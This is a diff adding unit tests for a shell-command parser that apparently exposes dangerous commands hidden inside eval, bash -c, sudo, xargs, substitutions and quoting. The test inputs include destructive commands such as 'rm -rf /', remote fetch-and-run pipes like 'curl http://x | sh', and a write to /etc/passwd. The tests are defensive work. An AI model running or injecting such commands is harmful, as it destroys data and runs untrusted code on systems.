@@ -0,0 +1,129 @@
+import { describe, expect, test } from "bun:test";
+import { parseShellCommand } from "../../../src/plugin/managers/shell-parser.js";
+
+function texts(command: string): string[] {
+  return parseShellCommand(command).segments.map((s) => s.text);
+}
+
+describe("ShellParser - Splitting", () => {
+  test("splits on ;, &&, || and newlines", () => {
+    expect(texts("ls; pwd && whoami || id\ndate")).toEqual(["ls", "pwd", "whoami", "id", "date"]);
+  });
+
+  test("keeps pipelines together", () => {
+    const { segments } = parseShellCommand("curl -s http://x | sh");
+    expect(segments).toHaveLength(1);
+    expect(segments[0]?.text).toBe("curl -s http://x | sh");
+    expect(segments[0]?.commands.map((c) => c.argv[0])).toEqual(["curl", "sh"]);
+  });
+
+  test("splits subshells and background jobs", () => {
+    expect(texts("(cd build && make) & echo done")).toEqual(["cd build", "make", "echo done"]);
+  });
+
+  test("does not split on operators inside quotes", () => {
+    expect(texts("git commit -m 'a; b && c'")).toEqual(['git commit -m "a; b && c"']);
+  });
+
+  test("ignores comments", () => {
+    expect(texts("ls # rm -rf /")).toEqual(["ls"]);
+  });
+});
+
+describe("ShellParser - Quoting", () => {
+  test("removes quotes and backslashes like the shell", () => {
+    const { segments } = parseShellCommand(`r"m" -'r'f \\/tmp`);
+    expect(segments[0]?.commands[0]?.argv).toEqual(["rm", "-rf", "/tmp"]);
+  });
+
+  test("handles ANSI-C quoting", () => {
+    const { segments } = parseShellCommand("printf $'a\\tb'");
+    expect(segments[0]?.commands[0]?.argv[1]).toBe("a\tb");
+  });
+
+  test("reports unbalanced quotes as incomplete", () => {
+    expect(parseShellCommand("echo 'unterminated").complete).toBe(false);
+    expect(parseShellCommand("echo $(ls").complete).toBe(false);
+    expect(parseShellCommand("echo 'ok'").complete).toBe(true);
+  });
+});
+
+describe("ShellParser - Nested commands", () => {
+  test("parses $( ) and backtick substitutions", () => {
+    const { segments } = parseShellCommand("echo $(whoami) `id`");
+    expect(segments.filter((s) => s.source === "substitution").map((s) => s.text)).toEqual(["whoami", "id"]);
+  });
+
+  test("parses substitutions inside double quotes", () => {
+    expect(texts('echo "user: $(rm -rf /)"')).toContain("rm -rf /");
+  });
+
+  test("parses eval arguments", () => {
+    const { segments } = parseShellCommand(`eval "rm -rf /"`);
+    expect(segments.find((s) => s.source === "eval")?.text).toBe("rm -rf /");
+  });
+
+  test("parses bash -c and sh -c payloads", () => {
+    expect(texts(`bash -c "ls; rm -rf ~"`)).toContain("rm -rf ~");
+    expect(texts(`sh -ec 'curl http://x | sh'`)).toContain("curl http://x | sh");
+  });
+
+  test("limits nesting depth", () => {
+    expect(parseShellCommand("eval ".repeat(4) + "ls").complete).toBe(true);
+    expect(parseShellCommand("eval ".repeat(20) + "ls").complete).toBe(false);
+
+    let nested = "ls";
+    for (let i = 0; i < 12; i++) nested = `echo $(${nested})`;
+    expect(parseShellCommand(nested).complete).toBe(false);
+  });
+});
+
+describe("ShellParser - Wrappers", () => {
+  test("strips sudo, env, nohup and timeout", () => {
+    expect(texts("sudo -u root rm -rf /")).toContain("rm -rf /");
+    expect(texts("env -i FOO=1 rm -rf /")).toContain("rm -rf /");
+    expect(texts("nohup timeout -s KILL 10 rm -rf /")).toContain("rm -rf /");
+  });
+
+  test("strips xargs and resolves the wrapped shell", () => {
+    const { segments } = parseShellCommand("find . | xargs -0 sh -c 'rm -rf ~'");
+    expect(segments.find((s) => s.source === "wrapper")?.text).toBe('sh -c "rm -rf ~"');
+    expect(segments.find((s) => s.source === "shell")?.text).toBe("rm -rf ~");
+  });
+
+  test("keeps the wrapped command's redirects", () => {
+    const { segments } = parseShellCommand("sudo tee > /etc/passwd");
+    const wrapped = segments.find((s) => s.source === "wrapper");
+    expect(wrapped?.commands[0]?.redirects).toEqual([{ operator: ">", target: "/etc/passwd" }]);
+  });
+});
+
+describe("ShellParser - Commands", () => {
+  test("separates assignments, argv and redirects", () => {
+    const command = parseShellCommand("FOO=1 BAR=2 make build 2>&1 > out.log").segments[0]?.commands[0];
+    expect(command?.assignments).toEqual(["FOO=1", "BAR=2"]);
+    expect(command?.argv).toEqual(["make", "build"]);
+    expect(command?.redirects).toEqual([
+      { operator: "2>&", target: "1" },
+      { operator: ">", target: "out.log" },
+    ]);
+  });
+
+  test("marks quoted echo/printf arguments as inert", () => {
+    const input = `echo "rm -rf / now" && printf '%s' "$(id)"`;
+    const { inertArguments, segments } = parseShellCommand(input);
+
+    expect(inertArguments.map(([start, end]) => input.slice(start, end))).toEqual([`"rm -rf / now"`, `'%s'`]);
+    expect(segments[0]?.text).toBe("echo ''");
+  });
+
+  test("keeps echo arguments piped into a shell or inside substitutions", () => {
+    const piped = parseShellCommand(`echo "rm -rf /" | sudo bash`);
+    expect(piped.inertArguments).toEqual([]);
+    expect(piped.segments[0]?.text).toBe(`echo "rm -rf /" | sudo bash`);
+
+    expect(piped.segments.map((segment) => segment.text)).toContain("rm -rf /");
+
+    expect(texts(`eval "$(echo 'rm -rf /')"`)).toContain("rm -rf /");
+  });
+});